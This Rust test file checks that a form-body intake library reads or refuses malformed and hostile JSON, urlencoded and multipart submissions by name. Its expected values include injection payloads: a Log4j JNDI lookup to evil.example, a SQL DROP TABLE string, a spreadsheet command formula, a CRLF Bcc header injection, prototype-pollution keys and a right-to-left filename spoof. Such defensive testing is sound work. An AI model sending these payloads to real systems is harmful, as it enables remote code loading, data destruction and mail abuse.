//! Bodies that were made to break something: every file of `tests/hostile` gives either
//! exactly these fields, or the refusal that names what is wrong with it.

use std::collections::BTreeSet;
use std::path::Path;

use crate::bodies::{Platform, shown};
use beeline::intake::{
    BodyKind, Fields, MAX_BODY_BYTES, MAX_FIELDS, MAX_NAME_BYTES, MAX_VALUE_BYTES, Malformed, Submission,
};

/// What a file must give.
enum Expected {
    /// Fields, this many, some of which are these.
    Fields(usize, &'static [(&'static str, &'static str)]),
    /// A refusal.
    Refused(Malformed),
}

use Expected::{Fields as Read, Refused};
use Malformed::{
    BadPart, DuplicateField, FileField, NameTooLong, NoDelimiter, NotInCharset, NotJsonObject, NotUtf8,
    TooDeep, TooManyFields, TooManyValues, TransferEncoding, Unfinished, ValueTooLong,
};

const JSON: &[(&str, Expected)] = &[
    ("array_of_leads.json", Refused(NotJsonObject)),
    ("beyond_unicode.json", Refused(NotUtf8)),
    ("brackets_alternating.json", Refused(TooDeep)),
    ("byte_order_mark.json", Read(1, &[("email", "a@b.de")])),
    ("byte_order_mark_utf16.json", Refused(NotUtf8)),
    ("combining_marks.json", Refused(ValueTooLong)),
    ("combining_marks_short.json", Read(1, &[])),
    ("comments.json", Refused(NotJsonObject)),
    ("deep_arrays.json", Refused(TooDeep)),
    ("deep_objects.json", Refused(TooDeep)),
    ("dots_only.json", Read(2, &[("..", "number 1"), ("...", "number 2")])),
    ("duplicate_keys.json", Refused(DuplicateField)),
    ("duplicate_keys_spelled_differently.json", Refused(DuplicateField)),
    ("duplicate_objects.json", Refused(DuplicateField)),
    ("empty_names.json", Read(2, &[("..", "x"), ("a.", "y")])),
    ("huge_numbers.json", Read(4, &[("employees", "1e400"), ("a", "-1e999999999"), ("c", "number 0")])),
    ("invisible.json", Read(3, &[("email", "a\u{200d}@b.de")])),
    ("key_of_64_kib.json", Refused(NameTooLong)),
    ("key_of_escapes.json", Refused(NameTooLong)),
    ("lone_surrogates.json", Read(3, &[("name", "\u{fffd}"), ("company", "x\u{fffd}y"), ("\u{fffd}", "😀")])),
    ("not_a_number.json", Refused(NotJsonObject)),
    ("null_bytes_escaped.json", Read(2, &[("name", "A\0da"), ("na\0me", "x")])),
    ("null_bytes_raw.json", Refused(NotJsonObject)),
    ("only_open_quotes.json", Refused(NotJsonObject)),
    (
        "other_systems.json",
        Read(
            15,
            &[
                ("log4j", "${jndi:ldap://evil.example/a}"),
                ("sql", "'; DROP TABLE leads; --"),
                ("spreadsheet", "=cmd|'/C calc'!A1"),
                ("header", "x\r\nBcc: everybody@example.com"),
            ],
        ),
    ),
    ("overlong_utf8.json", Refused(NotUtf8)),
    ("prototype.json", Read(3, &[("__proto__.isAdmin", "boolean true")])),
    ("right_to_left.json", Read(3, &[("name", "\u{202e}gnp.exe\u{202c}")])),
    ("surrogates_as_utf8.json", Refused(NotUtf8)),
    ("ten_thousand_fields.json", Refused(TooManyFields)),
    ("ten_thousand_items.json", Refused(TooManyValues)),
    ("ten_thousand_nulls.json", Refused(TooManyFields)),
    ("trailing_object.json", Refused(NotJsonObject)),
    ("two_byte_order_marks.json", Refused(NotJsonObject)),
    ("unfinished_escape.json", Refused(NotJsonObject)),
    ("unfinished_string.json", Refused(NotJsonObject)),
    ("unicode_edges.json", Read(4, &[("private", "\u{e000}")])),
    ("value_of_64_kib.json", Refused(ValueTooLong)),
];

const URLENCODED: &[(&str, Expected)] = &[
    ("brackets.txt", Read(3, &[("", "[a|b]"), ("a[]", "[c]"), ("[[]]", "d")])),
    ("byte_order_mark.txt", Read(1, &[("email", "a@b.de")])),
    ("charset_iso2022jp.txt", Read(2, &[("name", "あ")])),
    ("charset_unknown.txt", Refused(NotInCharset)),
    ("charset_utf7.txt", Refused(NotInCharset)),
    ("combining_marks.txt", Read(1, &[])),
    ("double_encoded.txt", Read(1, &[("name", "%3Cscript%3E%00")])),
    ("json_in_disguise.txt", Read(1, &[("{\"email\":\"a@b.de\",\"x\":\"", "1\"}")])),
    ("key_of_64_kib.txt", Refused(NameTooLong)),
    ("latin1_undeclared.txt", Refused(NotUtf8)),
    ("null_bytes.txt", Read(2, &[("na\0me", "A\0da"), ("raw", "\0")])),
    ("only_ampersands.txt", Read(0, &[])),
    ("only_equals.txt", Read(1, &[])),
    ("only_percents.txt", Refused(NameTooLong)),
    ("other_systems.txt", Read(5, &[("a", "${jndi:ldap://x}"), ("__proto__[isAdmin]", "1")])),
    ("overlong_utf8.txt", Refused(NotUtf8)),
    ("overlong_utf8_raw.txt", Refused(NotUtf8)),
    ("surrogates_as_utf8.txt", Refused(NotUtf8)),
    ("ten_thousand_fields.txt", Refused(TooManyFields)),
    ("ten_thousand_values.txt", Refused(TooManyValues)),
];

/// All with the boundary `hostile`.
const MULTIPART: &[(&str, Expected)] = &[
    ("base64.bin", Refused(TransferEncoding)),
    ("boundary_in_value.bin", Read(1, &[("a", "--hostile\nx--hostile--\r\n --hostile--\r\n--hostiles--")])),
    ("carriage_returns_only.bin", Refused(NoDelimiter)),
    ("charset_unknown.bin", Refused(NotInCharset)),
    ("epilogue_part.bin", Read(1, &[("email", "a@b.de")])),
    ("file.bin", Refused(FileField)),
    ("file_name_traversal.bin", Refused(FileField)),
    ("file_untouched.bin", Read(1, &[("email", "a@b.de")])),
    ("header_injection.bin", Refused(BadPart)),
    ("line_feeds_only.bin", Read(1, &[("email", "a@b.de")])),
    ("long_header.bin", Refused(BadPart)),
    ("many_headers.bin", Refused(BadPart)),
    ("nested.bin", Read(1, &[])),
    ("no_boundary.bin", Refused(NoDelimiter)),
    ("no_headers.bin", Refused(BadPart)),
    ("no_name.bin", Refused(BadPart)),
    ("not_utf8.bin", Refused(NotUtf8)),
    ("null_bytes.bin", Read(1, &[("na\0me", "A\0da")])),
    ("only_delimiters.bin", Refused(BadPart)),
    ("only_line_feeds.bin", Refused(Unfinished)),
    ("other_boundary.bin", Refused(NoDelimiter)),
    ("other_systems.bin", Read(3, &[("__proto__", "${jndi:ldap://x}"), ("\"\r\nname", "\u{202e}")])),
    ("twelve_hundred_parts.bin", Refused(TooManyFields)),
    ("two_dispositions.bin", Refused(BadPart)),
    ("two_names.bin", Refused(BadPart)),
    ("unfinished.bin", Refused(Unfinished)),
];

fn folder(kind: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile").join(kind)
}

#[track_caller]
fn assert_each(kind: &str, content_type: &str, expected: &[(&str, Expected)]) {
    let reader = BodyKind::from_content_type(content_type).unwrap();
    for (file, expected) in expected {
        let body = std::fs::read(folder(kind).join(file)).unwrap_or_else(|error| panic!("{file}: {error}"));
        match (reader.fields(&body, &Platform), expected) {
            (Ok(fields), Read(count, some)) => assert_fields(file, &fields, *count, some),
            (Err(malformed), Refused(expected)) => assert_eq!(malformed, *expected, "{file}"),
            (Ok(fields), Refused(expected)) => {
                panic!("{file}: {expected:?} expected, read {:?}", shown(&fields))
            }
            (Err(malformed), Read(..)) => panic!("{file}: {malformed:?}"),
        }
    }
    let listed: BTreeSet<String> = expected.iter().map(|(file, _)| (*file).to_owned()).collect();
    let there = std::fs::read_dir(folder(kind)).unwrap();
    let there = there.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(listed, there, "each file is expected to do something");
}

fn assert_fields(file: &str, fields: &Fields, count: usize, some: &[(&str, &str)]) {
    let shown = shown(fields);
    assert_eq!(shown.len(), count, "{file}");
    for (name, value) in some {
        let pair = ((*name).to_owned(), (*value).to_owned());
        assert!(shown.contains(&pair), "{file}: {pair:?} in {shown:?}");
    }
    // The contract takes it from here: it may refuse the fields, by name.
    if let Err(errors) = Submission::read(fields, &beeline::contract::Contract::default()) {
        assert!(!errors.is_empty(), "{file}");
    }
}

#[test]
fn hostile_json_is_read_or_refused_by_name() {
    assert_each("json", "application/json", JSON);
}

#[test]
fn hostile_urlencoded_bodies_are_read_or_refused_by_name() {
    assert_each("urlencoded", "application/x-www-form-urlencoded", URLENCODED);
}

#[test]
fn hostile_multipart_bodies_are_read_or_refused_by_name() {
    assert_each("multipart", "multipart/form-data; boundary=hostile", MULTIPART);
}

#[test]
fn refusals_name_the_limits_that_hold() {
    for (refusal, limit) in [
        (TooManyFields, MAX_FIELDS.to_string()),
        (NameTooLong, MAX_NAME_BYTES.to_string()),
        (ValueTooLong, format!("{} KiB", MAX_VALUE_BYTES / 1024)),
    ] {
        assert!(refusal.detail().contains(&limit), "{refusal}");
    }
}

#[test]
fn no_refusal_repeats_what_was_sent() {
    let marker = "secret-marker";
    let body = |kind: &str| match kind {
        "application/json" => format!("{{\"{marker}\":\"{marker}\",\"{marker}\":1}}"),
        "application/x-www-form-urlencoded" => format!("{marker}={marker}%ff"),
        _ => format!("--hostile\r\n{marker}\r\n\r\n{marker}\r\n--hostile--"),
    };
    for kind in
        ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=hostile"]
    {
        let reader = BodyKind::from_content_type(kind).unwrap();
        let malformed = reader.fields(body(kind).as_bytes(), &Platform).err().unwrap();
        assert!(!format!("{malformed} {malformed:?}").contains(marker), "{kind}");
    }
}

/// Every reader gets every file, and so do readers of bodies cut anywhere near an end.
#[test]
fn no_reader_panics_on_any_of_them() {
    let mut read = 0;
    for kind in ["json", "urlencoded", "multipart"] {
        for entry in std::fs::read_dir(folder(kind)).unwrap() {
            let body = std::fs::read(entry.unwrap().path()).unwrap();
            let body = body.get(..MAX_BODY_BYTES).unwrap_or(&body);
            for content_type in [
                "application/json",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=hostile",
            ] {
                let reader = BodyKind::from_content_type(content_type).unwrap();
                for end in (body.len().saturating_sub(9)..=body.len()).chain(0..body.len().min(9)) {
                    read += usize::from(reader.fields(body.get(..end).unwrap(), &Platform).is_ok());
                }
            }
        }
    }
    assert!(read > 100, "{read} of them were read");
}
